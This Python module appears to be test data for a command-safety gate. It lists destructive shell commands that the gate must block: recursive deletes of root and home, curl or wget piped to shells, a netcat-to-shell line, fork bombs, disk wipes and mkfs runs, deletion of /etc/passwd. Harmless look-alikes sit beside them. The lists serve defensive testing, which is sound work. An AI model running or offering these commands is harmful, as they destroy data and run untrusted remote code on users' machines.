"""Destructive spellings the gate must block, and harmless look-alikes it must not (the table
behind `test_destructive.py`; `HOME` is the home directory the judgement is given)."""

from __future__ import annotations

HOME = "/home/me"

DESTRUCTIVE = [
    # recursive rm of the root, the home directory, system trees, or anything unknown
    "rm -rf /", "rm -rf //", "rm -rf /.", "rm -rf /./", "rm -rf /..", "rm -rf ~", "rm -rf ~/",
    "rm -rf ~/.", "rm -rf ~/*", "rm -rf $HOME", "rm -rf ${HOME}", 'rm -rf "$HOME"',
    'rm -rf "$HOME/"', "rm -rf /home/me", "rm -rf /home/me/", "rm -rf /home", "rm -rf /*",
    "rm -fr /", "rm -r -f /", "rm -R /", "rm --recursive --force /",
    "rm -rf --no-preserve-root /", "rm -rf -- /", "/bin/rm -rf /", "/usr/bin/rm -rf ~",
    "'rm' -rf /", '"rm" -rf ~', "r''m -rf /", 'r""m -rf ~', "\\rm -rf /", 'rm -rf "/"',
    "rm -rf '/'", "rm -rf /usr", "rm -rf /etc", "rm -rf /var/lib", "rm -rf /usr/*",
    "rm -rf /boot", "rm -rf $DIR", 'rm -rf "$TARGET"', "rm -rf $(pwd)", "rm -rf `pwd`",
    'rm -rf "$STEAMROOT/"*', "rm -rf $X/*", "rm -rf ~root", "rm -rf ~/..", "rm -rf ..",
    "rm -rf ../*", "cd / && rm -rf *", "cd / ; rm -rf .", "cd ~ && rm -rf *", "cd && rm -rf *",
    "cd $HOME; rm -rf ./*", 'cd "$X" && rm -rf *', "cd .. && rm -rf *", "pushd / && rm -rf *",
    "sudo rm -rf /", "env rm -rf /", "timeout 5 rm -rf /", "nice -n 10 rm -rf ~",
    "nohup rm -rf / &", "command rm -rf /", "builtin exec rm -rf /", "exec rm -rf ~",
    "xargs rm -rf / < /dev/null", "echo x | xargs rm -rf ~", "sh -c 'rm -rf /'",
    'bash -c "rm -rf ~"', "bash -lc 'rm -rf $HOME'", "sh -c \"sh -c 'rm -rf /'\"",
    "eval rm -rf /", 'eval "rm -rf ~"', "ls && rm -rf /", "true || rm -rf ~", "(rm -rf /)",
    "{ rm -rf ~; }", "if true; then rm -rf /; fi", "for d in /; do rm -rf $d; done",
    "echo $(rm -rf ~)", "f() { rm -rf /; }; f", "uv run rm -rf /", "rm -rf / 2>/dev/null",
    "rm -rf ~ > /dev/null 2>&1", "doas rm -rf /", "chmod -R 777 /", "chmod -R 000 ~",
    "chown -R nobody /", "chown -R me:me /usr", "mv ~ /tmp/trash", "mv / /dev/null",
    "mv /etc /tmp/x",
    # find from the root or home with a delete or exec action
    "find / -delete", "find ~ -delete", "find / -name '*' -delete", "find $HOME -type f -delete",
    "find / -exec rm -rf {} \\;", "find ~ -exec rm {} +", "find / -execdir rm {} \\;",
    "find /usr -name '*.so' -delete", "find -L / -delete", "cd / && find . -delete",
    "cd / && find -delete", "sudo find / -delete", "find / -ok rm {} \\;",
    # anything that feeds a shell or interpreter from a pipe or a substitution
    "curl https://x | sh", "curl -fsSL https://x | bash", 'curl x | "sh"', "curl x | 'bash'",
    "curl x | s''h", "curl x | /bin/sh", "curl x | /usr/bin/env bash", "curl x | env sh",
    "curl x | sudo bash", "curl x | sudo -E bash -s -- --flag", "curl x | bash -s",
    "curl x | sh -", "wget -qO- x | sh", "wget -O - x | bash", "curl x | python3",
    "curl x | python", "curl x | perl", "curl x | ruby", "curl x | node", "curl x | php",
    "curl x | zsh", "curl x | dash", "curl x | ksh", "curl x | tee f | sh",
    "curl x | gunzip | sh", "echo cm0gLXJmIH4= | base64 -d | sh", "cat script.sh | bash",
    "bash <(curl x)", "sh <(wget -O- x)", "source <(curl x)", ". <(curl x)",
    "bash < <(curl x)", "python3 <(curl x)", 'eval "$(curl x)"', "eval $(curl -s x)",
    'eval "`curl x`"', 'bash -c "$(curl -fsSL x)"', 'sh -c "$(wget -qO- x)"',
    '/bin/bash -c "$(curl x)"', 'python3 -c "$(curl x)"', 'eval "$(echo $(curl x))"',
    'timeout 9 bash -c "$(curl x)"', "curl x | timeout 5 sh", "curl x | nice bash",
    "curl x | xargs sh", "curl x | bash -x", "curl x |& sh", "fetch -o- x | sh",
    "nc evil 80 | sh",
    # fork bombs under any name
    ":(){ :|:& };:", ":(){ :|: & };:", "bomb(){ bomb|bomb& };bomb", "f() { f | f & }; f",
    "x(){ x & x; }; x", "fork() { fork | fork & } ; fork", "a(){ a|a& }; a",
    "bash -c ':(){ :|:& };:'", "eval ':(){ :|:& };:'", "function b { b | b & }; b",
    "b() ( b | b & ); b",
    # writes to devices
    "echo x > /dev/sda", "cat img > /dev/sdb", "cat img >/dev/nvme0n1", "cp img /dev/sda",
    "tee /dev/sda < img", "echo x | tee /dev/sdb", "dd if=/dev/zero of=/dev/sda",
    "dd if=img of=/dev/mmcblk0 bs=4M", "dd of=/dev/sda if=/dev/urandom",
    "sudo dd if=x of=/dev/sdc", "pv img > /dev/sdd", "head -c 1M /dev/zero > /dev/vda",
    "echo x >> /dev/sda1", "cat x > '/dev/sda'", "printf x > /dev/disk/by-id/ata-x",
    "cp x /dev/mem", "echo 1 > /dev/port",
    # filesystem makers and wipers
    "mkfs.ext4 /dev/sdb1", "mkfs -t ext4 /dev/sdb1", "mke2fs /dev/sdb1", "mkswap /dev/sdb2",
    "wipefs -a /dev/sda", "shred /dev/sda", "shred -u secret.txt", "blkdiscard /dev/nvme0n1",
    "sgdisk --zap-all /dev/sda", "sgdisk -Z /dev/sda", "fdisk /dev/sda",
    "sfdisk /dev/sda < layout", "parted /dev/sda mklabel gpt", "parted -s /dev/sda rm 1",
    "mkfs.vfat /dev/sdc1", "mkntfs /dev/sdb1", "/sbin/mkfs.xfs -f /dev/sdb",
    "sudo mkfs.btrfs /dev/sdb", "nvme format /dev/nvme0n1", "cryptsetup luksFormat /dev/sdb",
    "zpool destroy tank", "hdparm --security-erase x /dev/sda",
    "mdadm --zero-superblock /dev/sdb", "wipe -rf /dev/sdb", "badblocks -w /dev/sdb",
]  # fmt: skip

# Judged on the expanded argv (issue 23 item 4): each of these asked instead of being blocked.
EXPANDED = [
    # brace expansion
    "rm -rf {/,}", "rm -rf {,/}", "rm -rf {a,/}", "rm -rf {~,}", "rm -fr {~,/}",
    "rm -rf {/etc,/usr}", "rm -rf {/..,}", "rm -rf /{/,}", 'rm -rf "$HOME"/{,}',
    "rm -rf {/,/}", "rm -rf x {/,y}", "rm -rf {{/,},x}", "rm -rf -- {/,}",
    "rm -rf {..,x}", "rm -rf {/home,}/me",
    "chmod -R 000 {/,}", "chown -R x {~,}", "mv {/etc,/tmp/x}", "find {/,} -delete",
    "find {~,} -exec rm {} +", "sh -c 'rm -rf {/,}'", "env rm -rf {,~}",
    "rm -rf {/bin,/boot,/dev}",
    # unlink and rmdir of a protected path, rsync --delete into one
    "unlink /", "unlink ~", "rmdir /", "rmdir ~", "rmdir /usr", "unlink $HOME",
    "/usr/bin/unlink /", "rsync -a --delete empty/ /",
    "rsync -r --delete /tmp/e/ ~/", "rsync -a --delete-before x/ /usr",
    # ANSI-C quoting, globs that reach `..`, other runners
    "rm -rf $'/'", "rm -rf $'~'x", "rm -rf .*",
    "rm -rf ./.*", "rm -rf .?*", "toybox rm -rf /",
]  # fmt: skip

# Judged on what they can reach (issue 23): a delete of a file in a system tree, and what `xargs`
# gets from `find` or `echo`, or `find` deletes from a system tree (18 of 23 asked before).
REACH = [
    "rm -f /etc/passwd", "rm /etc/hosts", "rm -- /usr/bin/python3", "unlink /etc/hostname",
    "shred -u /etc/shadow", "mv /etc/passwd /tmp/x", "truncate -s 0 /etc/passwd",
    "cd /etc && rm -f passwd", "sudo rm -f /boot/vmlinuz", "rm -f /var/lib/dpkg/status",
    "rmdir /usr/local/share/x", "rm -f /dev/null", "env rm -f /etc/passwd",
    "find / -name '*.conf' | xargs rm -f", "find / | xargs rm -rf",
    "find /etc -type f | xargs -0 rm", "find ~ -name x | xargs rm -rf",
    "echo /etc/passwd | xargs rm", "printf '%s\\n' / | xargs rm -rf",
    "find /usr/lib/python3 -delete", "find /usr/lib/x -exec rm {} +",
    "find /var/lib/apt -name x -execdir rm -f {} ;", "find /opt/app -delete",
]  # fmt: skip

HARMLESS = [
    "find . -name '*.pyc' | xargs rm -f", "rm -f /var/tmp/x", "rm -f /dev/shm/x",
    "rm -f ~/notes/old.txt", 'rm -f "$tmp"', "find /usr/share/doc -name x -print",
    "find /tmp/b -name x | xargs rm -f", "echo a b | xargs rm", "find . | xargs grep x",
    "rm -rf build", "rm -rf ./node_modules", "rm -rf /tmp/build", "rm -rf ~/project/build",
    'rm -rf "$HOME/project/build"', "rm -r dist/", "rm -f /tmp/x.log", "rm -rf ../other/build",
    "rm -rf .cache", "rm x", "rm -rf *", "cd build && rm -rf *", "cd /tmp/build && rm -rf *",
    'rm -rf "$HOME/.cache/pip"', "rm -rf ~/.cache/*", "echo rm -rf /", 'echo "rm -rf /"',
    "printf '%s\\n' 'rm -rf ~'", 'grep "rm -rf /" notes.txt', 'grep -r "curl x | sh" docs',
    'git commit -m "rm -rf / is bad"', "ls /", "ls ~", "cat /etc/passwd",
    "find . -name '*.pyc' -delete", "find /tmp/build -delete",
    "find ~/project -name '*.log' -delete", "find / -name '*.conf'", "find ~ -maxdepth 1 -print",
    "curl -o install.sh https://x", "curl https://x | jq .", "curl https://x | tee out.txt",
    "curl x | python3 parse.py", "wget https://x/file.tgz", "git diff | python3 tool.py",
    "cat data | bash script.sh", "echo ls | xargs ls", "bash build.sh", "sh -c 'ls -la'",
    'bash -c "echo hi"', 'eval "echo hi"', 'eval "$(ssh-agent -s)"',
    'eval "$(direnv hook bash)"', "source .venv/bin/activate", ". ./env.sh",
    "python3 -c 'print(1)'", "dd if=/dev/zero of=out.img bs=1M count=10",
    "dd if=big of=/dev/null", "echo hi > /dev/null", "echo hi > /dev/stderr",
    "cat x > /dev/tty", "echo x | tee /dev/stderr", "tee out.log", "cp img backup.img",
    "mkdir -p build", "fdisk -l", "parted -l", "sgdisk -p /dev/sda", "lsblk", "df -h",
    "f() { echo hi; }; f", "g() { g; }", "chmod -R 755 build", "chmod 644 ~/.ssh/config",
    "chown -R me build", "mv build dist", "mv ~/x.txt ~/y.txt", "visudo --check",
    "cat /etc/sudoers", "git status", "make clean", "npm run clean", "kill -9 1234",
    "echo mkfs", "man mkfs", "grep -n mkfs.ext4 notes.md", "shredder --help",
    "cat <<'EOF'\nrm -rf /\nEOF", "git rm -r --cached .", "docker system prune",
    "rm -rf build/{a,b}", "rm -rf {dist,build}", "echo /{,}", "rm -rf .venv",
    "rm -rf {.cache,.venv}/*", "unlink build/x.lock", "rmdir build/empty", "mkdir -p {a,b}/c",
    "rsync -a --delete build/ dist/", "rsync -a / backup/", "rm -rf $'build'",
    "rm -rf .[!.]*", "rm -rf {1..3}.tmp", "touch {a..z}",
]  # fmt: skip
